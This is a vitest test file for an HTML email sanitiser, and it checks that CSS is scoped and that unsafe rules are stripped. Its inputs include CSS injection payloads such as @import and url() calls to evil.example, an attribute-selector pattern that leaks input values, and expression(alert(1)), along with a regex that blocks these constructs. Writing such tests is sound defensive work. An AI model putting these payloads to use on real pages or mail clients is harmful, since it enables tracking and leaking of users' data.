import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { attacks } from './fixtures/attacks.ts'
import { sanitise } from './sanitise-html.ts'

const sheetOf = (html: string) => /^<style>([^<]*)<\/style><div class="mailbody">/.exec(html)?.[1] ?? ''
const kept = (css: string) => sheetOf(sanitise(`<style>${css}</style><p class="a b">x</p>`).html)

describe('a style sheet', () => {
  it.each([
    ['.a{color:red}', '.mailbody .mail-a{color:red}'],
    [
      'p.a > b, td .b{padding:4px!important}',
      '.mailbody p.mail-a>b,.mailbody td .mail-b{padding:4px !important}',
    ],
    ['body{margin:0;background:#eee}', '.mailbody{display:flow-root}.mailbody{margin:0;background:#eee}'],
    [
      'html,body{background-color:#111}',
      '.mailbody{display:flow-root}.mailbody,.mailbody{background-color:#111}',
    ],
    ['html body .a{color:#123}', '.mailbody .mail-a{color:#123}'],
    [
      '@media only screen and (max-width:480px){.a{width:100%}}',
      '@media only screen and (max-width:480px){.mailbody .mail-a{width:100%}}',
    ],
    [
      '@media (prefers-color-scheme: dark){.a{color:#fff}}',
      '@media (prefers-color-scheme: dark){.mailbody .mail-a{color:#fff}}',
    ],
    ['.mailbody{color:red}', '.mailbody .mail-mailbody{color:red}'],
    ['.body ~ p{color:red}', '.mailbody .mail-body~p{color:red}'],
    ['a:hover{color:red}', '.mailbody a:hover{color:red}'],
    ['p{font:12px/1.5 "Open Sans",Arial}', '.mailbody p{font:12px/1.5 Open Sans,Arial}'],
    ['.a{color:red', '.mailbody .mail-a{color:red}'],
    ['#kopf{color:red}', '.mailbody .mailid-kopf.mailid-kopf.mailid-kopf{color:red}'],
    ['td[class~="a"], *[class=b]{color:red}', '.mailbody td.mail-a,.mailbody *.mail-b{color:red}'],
    [
      'tr:nth-child(even) td, li:nth-of-type(2n+1), p:nth-child(3){color:red}',
      '.mailbody tr:nth-child(even) td,.mailbody li:nth-of-type(2n+1),.mailbody p:nth-child(3){color:red}',
    ],
    ['<!-- .a{color:red} -->', '.mailbody .mail-a{color:red}'],
    [
      '.a{color:red;background:#fff url(//t.example/x) no-repeat}',
      '.mailbody .mail-a{color:red;background:#fff}',
    ],
    [
      'p.MsoNormal{margin:0cm;margin-bottom:.0001pt}',
      '.mailbody p.mail-MsoNormal{margin:0cm;margin-bottom:.0001pt}',
    ],
  ])('%j is kept as %j', (css, out) => expect(kept(css)).toBe(out))

  it.each([
    ['@import "https://evil.example/x.css";'],
    ['@import url(//evil.example/x.css);'],
    ['@font-face{font-family:x;src:url(//evil.example/x)}'],
    ['@namespace x "y";@charset "utf-7";'],
    ['.a{background:url(//evil.example/x)}'],
    ['.a{background-image:image-set("//evil.example/x" 1x)}'],
    ['.a{width:expression(alert(1))}'],
    ['.a{behavior:url(x.htc);-moz-binding:url(x)}'],
    ['.a{position:fixed;top:0;z-index:9}'],
    ['.a::before{content:"x"}'],
    ['input[value^=a]{background:url(//evil.example/a)}'],
    ['body + p, body ~ *, html ~ div, body.a + p{display:none}'],
    ['.x body p{color:red}'],
    ['a:visited{color:red}'],
    ['[href^=x]{color:red}'],
    ['[class*=a]{color:red}'],
    ['p:nth-child(2 of .a){color:red}'],
    ['p:not(.a):lang(fr){color:red}'],
    ['#a\\3c b{color:red}'],
    [':root{--x:url(//evil.example)}.a{background:var(--x)}'],
    ['@media print{.a{color:red}}'],
    ['@media screen and (x:url(//evil.example)){.a{color:red}}'],
    ['@supports (color:red){.a{color:red}}'],
    ['.\\61{color:red}'.replace('61', '3c')],
    ['.a{margin-left:-9999px}'],
    ['.a{color:red\\;background:url(x)}'],
  ])('loses %j', (css) => expect(kept(css)).toBe(''))

  it('gives classes to elements only where it names them', () => {
    const { html } = sanitise('<style>.a{color:red}</style><p class="a admin">x</p><p class="mailbody">y</p>')
    expect(html).toBe(
      '<style>.mailbody .mail-a{color:red}</style><div class="mailbody"><p class="mail-a">x</p><p>y</p></div>',
    )
  })

  it('gives ids to no element, but their rules', () => {
    const { html } = sanitise(
      '<style>#été,#kopf{color:red}</style><td id="kopf" class="x">x</td><p id="y">y</p>',
    )
    expect(html).toBe(
      '<style>.mailbody .mailid-kopf.mailid-kopf.mailid-kopf{color:red}</style><div class="mailbody"><td class="mailid-kopf">x</td><p>y</p></div>',
    )
  })

  it('cannot leave its element, load anything or reach outside, whatever it contains', () => {
    const piece = fc.constantFrom(
      ...attacks.filter((attack) => attack.includes('style')),
      '.a',
      '{',
      '}',
      ';',
      ':',
      'color:red',
      'background:',
      'url(//evil.example/x)',
      '"',
      "'",
      '\\',
      '/*',
      '*/',
      '<!--',
      '-->',
      '</style',
      '<',
      '>',
      '@import ',
      '@media screen',
      '@media (',
      ')',
      ',',
      ' ',
      '*',
      '+',
      '\n',
      '\0',
      'é',
      ':hover',
      '[x]',
      '#i',
      'font:',
      '12px ',
      '!important',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        const { html } = sanitise(`<style>${pieces.join('')}</style><p class="a">x</p>`)
        const css = sheetOf(html)
        expect(html.match(/<style/g)?.length ?? 0).toBe(css === '' ? 0 : 1)
        expect(css).toMatch(/^[\w\s#.,:;{}()>+~%!*@/-]*$/)
        expect(css).not.toMatch(/url|import|expression|font-face|position|behavior/i)
        for (const [, selectors = ''] of css.replace(/@media[^{]*\{/g, '').matchAll(/([^{}]+)\{/g))
          for (const selector of selectors.split(',')) expect(selector).toMatch(/^\.mailbody(?:$|[ >.:])/)
      }),
      { numRuns: 500 },
    )
  })

  it('is bounded', () => {
    for (const css of ['{', '(', 'a{', '@media screen{', '.a .a{color:red}', '/*', 'a,', ':not(', '.a.a.a,'])
      expect(kept(css.repeat(20_000)).length).toBeLessThanOrEqual(60_000)
  })
})
